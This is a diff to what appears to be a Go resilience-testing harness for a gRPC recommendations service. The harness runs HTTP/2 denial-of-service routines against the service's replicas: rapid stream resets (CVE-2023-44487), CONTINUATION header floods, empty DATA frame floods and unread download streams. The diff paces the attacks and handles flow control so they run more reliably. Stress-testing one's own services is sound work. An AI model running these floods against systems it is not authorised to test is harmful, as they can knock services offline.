@@ -12,6 +12,7 @@ import (
 	"strings"
 	"sync"
 	"sync/atomic"
+	"time"
 
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
@@ -22,6 +23,7 @@ const (
 	service  = "/recommendations.v1.RecommendationsService/"
 	watching = "/grpc.health.v1.Health/Watch"
 	asking   = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+	maxFrame = 16 << 10 // bytes, unless a server allows more
 )
 
 // wire is one HTTP/2 connection to a replica, written frame by frame. Only one goroutine
@@ -85,6 +87,7 @@ func (w *wire) read() {
 			if errors.As(err, &code) {
 				continue
 			}
+			w.raid.count("connections ended: "+brief(err), 1)
 			return
 		}
 		switch f := f.(type) {
@@ -138,15 +141,22 @@ func (w *wire) begin(path string, more ...string) uint32 {
 	return id
 }
 
-// data sends bytes on a stream. It returns false if the connection has ended or its window
-// is used up.
-func (w *wire) data(stream uint32, end bool, content []byte) bool {
+// data sends bytes on a stream, once the connection's window has room. It returns false if
+// the connection has ended.
+func (w *wire) data(ctx context.Context, stream uint32, end bool, content []byte) bool {
+	for w.window.Load() < int64(len(content)) && !w.gone.Load() && ctx.Err() == nil {
+		sleep(ctx, time.Millisecond)
+	}
 	w.writing.Lock()
 	defer w.writing.Unlock()
-	if w.window.Add(-int64(len(content))) < 0 {
-		return false
+	w.window.Add(-int64(len(content)))
+	for len(content) > maxFrame {
+		if w.WriteData(stream, false, content[:maxFrame]) != nil {
+			return false
+		}
+		content = content[maxFrame:]
 	}
-	return w.WriteData(stream, end, content) == nil
+	return ctx.Err() == nil && w.WriteData(stream, end, content) == nil
 }
 
 // message frames a message of a call, of which perhaps only a part follows.
@@ -169,13 +179,19 @@ func within(number protowire.Number, content []byte) []byte {
 	return protowire.AppendBytes(protowire.AppendTag(nil, number, protowire.BytesType), content)
 }
 
-// rapidReset opens calls and resets each at once (CVE-2023-44487).
+// rapidReset opens calls, evenly over the attack, and resets each at once (CVE-2023-44487).
 func rapidReset(ctx context.Context, r *raid) error {
-	const on = 4
+	const on, all = 4, 20_000
 	r.wires(ctx, on, false, nil, func(ctx context.Context, w *wire) {
-		for range r.n(40_000) / on {
+		ticker := time.NewTicker(time.Millisecond)
+		defer ticker.Stop()
+		began, each := time.Now(), r.n(all/on)
+		for n := range each {
+			for time.Since(began) < r.length*time.Duration(n)/time.Duration(each) {
+				<-ticker.C
+			}
 			id := w.begin(service + "Recommend")
-			if id == 0 || ctx.Err() != nil || !w.data(id, true, whole(field(1, 1))) {
+			if id == 0 || ctx.Err() != nil || !w.data(ctx, id, true, whole(field(1, 1))) {
 				return
 			}
 			w.writing.Lock()
@@ -251,12 +267,12 @@ func headerBlocks(ctx context.Context, r *raid) error {
 		r.wires(again, r.n(20), false, nil, func(ctx context.Context, w *wire) {
 			w.writing.Lock()
 			defer w.writing.Unlock()
-			part, rest := block[:min(len(block), 16<<10)], block[min(len(block), 16<<10):]
+			part, rest := block[:min(len(block), maxFrame)], block[min(len(block), maxFrame):]
 			if w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: part}) != nil {
 				return
 			}
 			for len(rest) > 0 {
-				part, rest = rest[:min(len(rest), 16<<10)], rest[min(len(rest), 16<<10):]
+				part, rest = rest[:min(len(rest), maxFrame)], rest[min(len(rest), maxFrame):]
 				if w.WriteContinuation(1, len(rest) == 0, part) != nil || ctx.Err() != nil {
 					return
 				}
@@ -268,13 +284,13 @@ func headerBlocks(ctx context.Context, r *raid) error {
 	return nil
 }
 
-// streams opens calls of a method, each with this content and no end.
-func streams(connections, each int, path string, content []byte, more ...string) func(context.Context, *raid) error {
+// streams opens calls of a method, each with this content, which may be its end.
+func streams(connections, each int, path string, content []byte, end bool) func(context.Context, *raid) error {
 	return func(ctx context.Context, r *raid) error {
 		r.wires(ctx, connections, false, nil, func(ctx context.Context, w *wire) {
 			for range r.n(each) {
-				id := w.begin(path, more...)
-				if id == 0 || ctx.Err() != nil || len(content) > 0 && !w.data(id, false, content) {
+				id := w.begin(path)
+				if id == 0 || ctx.Err() != nil || len(content) > 0 && !w.data(ctx, id, end, content) {
 					return
 				}
 			}
@@ -289,7 +305,7 @@ func deafDownloads(ctx context.Context, r *raid) error {
 	r.wires(ctx, 5, false, none, func(ctx context.Context, w *wire) {
 		for range r.n(400) {
 			id := w.begin(service + "ListBooks")
-			if id == 0 || ctx.Err() != nil || !w.data(id, true, whole(nil)) {
+			if id == 0 || ctx.Err() != nil || !w.data(ctx, id, true, whole(nil)) {
 				return
 			}
 		}
@@ -302,7 +318,7 @@ func emptyData(ctx context.Context, r *raid) error {
 	r.wires(ctx, 2, false, nil, func(ctx context.Context, w *wire) {
 		id := w.begin(service + "RecordInteractions")
 		for range r.n(40_000) {
-			if id == 0 || ctx.Err() != nil || !w.data(id, false, nil) {
+			if id == 0 || ctx.Err() != nil || !w.data(ctx, id, false, nil) {
 				return
 			}
 			r.count("empty DATA frames", 1)
@@ -338,7 +354,7 @@ func messages(ctx context.Context, r *raid) error {
 			for what, content := range contents {
 				for _, method := range []string{"Recommend", "RecordInteractions", "Follow", "None"} {
 					id := w.begin(service+method, "grpc-encoding", "gzip", "grpc-timeout", "1S")
-					if id == 0 || ctx.Err() != nil || !w.data(id, true, content) {
+					if id == 0 || ctx.Err() != nil || !w.data(ctx, id, true, content) {
 						return
 					}
 					r.count(what, 1)
